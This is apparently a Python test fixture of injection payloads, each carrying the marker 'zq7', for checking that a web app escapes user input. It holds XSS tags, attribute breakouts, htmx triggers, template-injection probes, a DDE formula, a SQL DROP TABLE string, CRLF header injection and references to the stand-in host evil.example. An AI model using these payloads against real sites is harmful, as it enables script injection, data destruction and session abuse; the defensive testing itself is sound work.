"""Texts that would do something if a page took them for more than text. Each holds MARK, so that it can be found."""

MARK = "zq7"

TAGS = (
    "<script>alert('zq7')</script>",
    "</script><script>alert('zq7')</script>",
    "<img src=x onerror=alert('zq7')>",
    "<svg/onload=alert('zq7')>",
    "<body onload=alert('zq7')>",
    "<iframe src=javascript:alert('zq7')></iframe>",
    "<a href=\"javascript:alert('zq7')\">tryk</a>",
    "<input autofocus onfocus=alert('zq7')>",
    "<details open ontoggle=alert('zq7')>",
    "<video><source onerror=alert('zq7')></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('zq7')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('zq7')>\">",
    "<template><script>alert('zq7')</script></template>",
    "<style>@import '//evil.example/zq7.css'</style>",
    "<link rel=stylesheet href=//evil.example/zq7.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zq7'>",
    "<base href=//evil.example/zq7/>",
    "<form action=//evil.example/zq7><button>Send</button></form>",
    "<object data=//evil.example/zq7></object>",
    "<embed src=//evil.example/zq7>",
    "<!-- zq7 --!><img src=x onerror=alert(1)>",
    "<![CDATA[zq7]]><script>alert(1)</script>",
    "<scr<script>ipt>alert('zq7')</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/zq7.js></SCRIPT>",
    "<x/onclick=alert('zq7') tabindex=1>",
)
BREAKING_OUT = (
    '"><script>alert("zq7")</script>',
    "'><script>alert('zq7')</script>",
    '" onmouseover="alert(1)" zq7="',
    "' onmouseover='alert(1)' zq7='",
    "</textarea><script>alert('zq7')</script>",
    "</title><script>alert('zq7')</script>",
    "</option></select><img src=x onerror=alert('zq7')>",
    "--><script>alert('zq7')</script>",
    "`zq7`${alert(1)}",
    'zq7\\" onfocus=alert(1) autofocus',
    "\"/><hx-partial hx-target='body' hx-swap='innerHTML'>zq7</hx-partial>",
    "</hx-partial><hx-partial hx-target='#main'>zq7",
)
HTMX = (
    "<div hx-get='/m/zq7' hx-trigger='load'></div>",
    "<div data-hx-post='/logout' data-hx-trigger='load' zq7></div>",
    "<div hx-ws:connect='//evil.example/zq7'></div>",
    "<div hx-on:load='alert(1)' zq7></div>",
    "<p id='room'>zq7</p>",
    "<p id='write' data-draft='new' zq7>",
    "<form data-leave method=post action=/logout zq7>",
)
TEMPLATES = (
    "{{ 7 * 7 }}zq7",
    "{% for x in ().__class__.__base__.__subclasses__() %}zq7{% endfor %}",
    "{{ config }}zq7{# note #}",
    "%(name)szq7%s%d%%",
    "zq7 100% sikkert % (ja)",
    "${zq7}#{zq7}<%= zq7 %>",
    "{n} zq7 {total} {0}",
)
STRANGE = (
    "zq7\u202egnp.exe",
    "zq7\u0000efter",
    "zq7\ufeff\u200b\u2028\u2029",
    "&lt;script&gt;zq7&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;zq7",
    "\\u003cscript\\u003ezq7",
    "%3Cscript%3Ezq7%3C/script%3E",
    "＜script＞zq7＜/script＞",
    "javascript:alert('zq7')",
    "=cmd|' /C calc'!zq7",
    "zq7'; DROP TABLE idea; --",
    "zq7\r\nSet-Cookie: a=b",
    "𝓏𝓆𝟕zq7🏳️‍🌈\U0001f600",
)
ATTACKS = TAGS + BREAKING_OUT + HTMX + TEMPLATES + STRANGE
